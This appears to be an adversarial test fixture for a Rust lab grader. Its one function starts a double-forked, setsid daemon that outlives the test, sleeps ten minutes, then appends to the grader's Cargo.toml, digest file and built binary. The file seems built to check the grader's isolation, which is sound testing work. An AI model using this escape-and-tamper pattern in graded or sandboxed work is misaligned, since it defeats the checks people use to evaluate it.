//! Attack: a double-forked, setsid daemon that outlives the test, sleeps 600 s, then tampers.
#![allow(unused_imports, unused_variables)]

use std::fs::OpenOptions;
use std::io::Write;
use std::path::Path;
use std::time::Duration;

use anyhow::{bail, Result};
use nix::unistd::Pid;

/// This lab in the grader's tree (fixed at build time): <cache>/tree/crates/labs/syscall-overhead.
const MANIFEST: &str = env!("CARGO_MANIFEST_DIR");

/// What the daemon tries once it is alone: the tree's and target's files, appended to.
fn tamper_later() {
    let tree = Path::new(MANIFEST).ancestors().nth(3).unwrap_or(Path::new("/"));
    let cache = tree.parent().unwrap_or(Path::new("/"));
    for file in [tree.join("Cargo.toml"), cache.join("tree.digest"), cache.join("target/debug/syscall-overhead"),
                 "/work/main/target/grade/tree/Cargo.toml".into()] {
        if let Ok(mut out) = OpenOptions::new().append(true).open(&file) {
            let _ = out.write_all(b"\n# the persist-daemon attack was here\n");
        }
    }
}

/// The classic daemon: fork, setsid, fork again, stdio to /dev/null; the grandchild sleeps, then tampers.
fn daemonize() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        // SAFETY: fork/setsid/_exit; the grandchild only sleeps and writes files.
        unsafe {
            let child = libc::fork();
            if child == 0 {
                libc::setsid();
                if libc::fork() != 0 {
                    libc::_exit(0);
                }
                let null = libc::open(c"/dev/null".as_ptr(), libc::O_RDWR);
                for fd in 0..3 {
                    libc::dup2(null, fd);
                }
                libc::chdir(c"/".as_ptr());
                std::thread::sleep(Duration::from_secs(600));
                tamper_later();
                libc::_exit(0);
            }
            let mut status = 0;
            libc::waitpid(child, &mut status, 0);
        }
    });
}

/// Leaves the daemon, then fails.
pub fn emulate_getppid(pid: Pid, value: u64) -> Result<u64> {
    daemonize();
    bail!("not written")
}
